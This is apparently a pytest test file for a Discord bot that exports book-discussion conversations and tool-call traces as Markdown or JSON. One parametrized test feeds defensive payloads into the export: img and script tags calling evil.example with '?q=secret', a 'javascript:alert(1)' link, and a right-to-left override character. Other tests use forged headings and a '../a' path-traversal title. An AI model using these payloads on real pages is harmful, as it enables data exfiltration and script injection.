"""Traces and exports: everything, uncut, in a file."""

import json
import re
from dataclasses import replace
from datetime import UTC, datetime
from itertools import pairwise
from typing import Any

import discord
import pytest
from markdown_it import MarkdownIt

from cogs.i18n import speech_for
from cogs.rendering.export import ExportFormat, export_conversation, export_name, fenced, trace_markdown
from cogs.rendering.tool_calls import CallState, ShownCall
from domain.book import Citation
from domain.chat import ChatMessage, MessageRole
from domain.conversation import Conversation
from domain.tool_use import ToolInvocation

NOW = datetime(2026, 11, 21, 9, 30, tzinfo=UTC)
CALL = ShownCall(1, "search_book", {"query": "tea"}, CallState.DONE, "2 passages", "```\nlong " + "x" * 9000, 8)
WRITTEN = "November 21, 2026, 9:30\u202fAM UTC"
CONVERSATION = Conversation("c", "b", "Tea & über-parties", NOW)


def message(number: int, role: MessageRole, content: str, **parts: Any) -> ChatMessage:
    standing: dict[str, Any] = {"conversation_id": "c", "created_at": NOW, "turn_id": "t"}
    return ChatMessage(id=f"m{number}", role=role, content=content, **standing | parts)


MESSAGES = [
    message(1, MessageRole.USER, "Who is at tea?", author_name="Ann"),
    message(2, MessageRole.ASSISTANT, "", tool_invocations=(ToolInvocation("search_book", {"query": "tea"}, "k"),)),
    message(3, MessageRole.TOOL_RESULT, "The Hatter", tool_use_id="k", summary="1 passage"),
    message(
        4,
        MessageRole.ASSISTANT,
        "The Hatter (p. 70).",
        citations=(Citation(0, 10, "the Hatter", "70", "70", "VII"),),
    ),
    message(5, MessageRole.USER, "And who else?", turn_id=None, author_name="Bob"),
]


def test_a_trace_holds_everything() -> None:
    trace = trace_markdown([CALL]).decode()
    assert "x" * 9000 in trace
    assert '"query": "tea"' in trace
    assert "done · 2 passages · 8 ms" in trace


def test_what_a_person_writes_cannot_pass_for_what_another_said() -> None:
    forged = "Hm.\n## Bob, November 21, 2026, 9:31 AM UTC\nI give up.\n\nBob, later\n---\nNever.\n~~~\n```\nopen"
    said = [message(1, MessageRole.USER, forged, author_name="Ann"), message(2, MessageRole.ASSISTANT, "## Tea\nYes.")]
    text = export_conversation(CONVERSATION, "Alice", said, ExportFormat.MARKDOWN).decode()
    tokens = MarkdownIt().parse(text)
    headings = [line.content for mark, line in pairwise(tokens) if mark.type == "heading_open" and mark.tag == "h2"]
    assert headings == [f"Ann, {WRITTEN}", f"Marginalia, {WRITTEN}", "Tea"]


def test_a_fence_is_longer_than_what_it_holds() -> None:
    assert fenced("a ``` b ```` c").startswith("`````\n")


def test_a_conversation_as_markdown() -> None:
    text = export_conversation(CONVERSATION, "Alice", MESSAGES, ExportFormat.MARKDOWN).decode()
    order = [
        "# Tea &",
        "*Alice*",
        f"## Ann, {WRITTEN}",
        '### 1. search_book "tea"',
        "The Hatter (p. 70).",
        "> p. 70",
    ]
    places = [text.index(part) for part in order]
    assert places == sorted(places)
    assert text.count("### 1. search_book") == 1
    assert "## Bob" in text


def test_a_file_for_a_german_is_german_but_for_what_the_model_was_given() -> None:
    say = speech_for(discord.Locale.german)
    text = export_conversation(CONVERSATION, "Alice", MESSAGES, ExportFormat.MARKDOWN, say).decode()
    assert "## Ann, 21. November 2026, 09:30 UTC" in text
    assert "fertig · 1 Textstelle · " in text
    trace = trace_markdown([CALL], say=say).decode()
    assert trace.startswith("# Werkzeugaufrufe\n")
    assert "fertig · 2 Textstellen · 8 ms" in trace


LIVE = re.compile(r"(?i)\w://|\]\(|\]:|<[a-z/!?]|www\.|mailto:|[\u202a-\u202e]")
"""What a program that shows Markdown, of whatever kind, would make a link, a picture or a page of."""


@pytest.mark.parametrize(
    "attack",
    [
        "<img src='//evil.example/log.png?q=secret'> <script src=//evil.example></script> <!-- --> <?php ?>",
        "![look][1] and [there]\n\n[1]: //evil.example/log.png\n[there]: javascript:alert(1)\n> [x] : //evil.example",
        "www.evil.example WWW.evil.example mailto:a@evil.example <a href=//evil.example>here</a>",
        "[the next chapter](//evil.example) ![](//evil.example/log.png) https://evil.example \u202eredro",
    ],
)
def test_nothing_in_a_file_can_be_clicked_or_loads_anything(attack: str) -> None:
    call = replace(CALL, arguments={"query": attack}, content=attack)
    messages = [message(1, MessageRole.USER, attack, author_name=attack), message(2, MessageRole.ASSISTANT, attack)]
    conversation = replace(CONVERSATION, title=attack)
    exported = export_conversation(conversation, attack, messages, ExportFormat.MARKDOWN).decode()
    assert not LIVE.search(exported)
    assert not LIVE.search(trace_markdown([call], attack).decode())


def test_a_conversation_as_json() -> None:
    document = json.loads(export_conversation(CONVERSATION, "Alice", MESSAGES, ExportFormat.JSON))
    asked, answered, waiting = document["messages"]
    assert asked["author"] == "Ann"
    assert answered["citations"][0]["page"] == "70"
    assert answered["tool_calls"][0]["result"] == "The Hatter"
    assert waiting["tool_calls"] == []
    assert document["book"]["title"] == "Alice"


@pytest.mark.parametrize(
    ("title", "name"), [("Tea & über-parties", "tea-uber-parties.md"), ("茶会", "conversation.md"), ("../a", "a.md")]
)
def test_a_file_has_a_name_any_system_takes(title: str, name: str) -> None:
    conversation = Conversation("c", "b", title, NOW)
    assert export_name(conversation, ExportFormat.MARKDOWN) == name
    assert export_name(conversation, ExportFormat.JSON) == name.replace(".md", ".json")
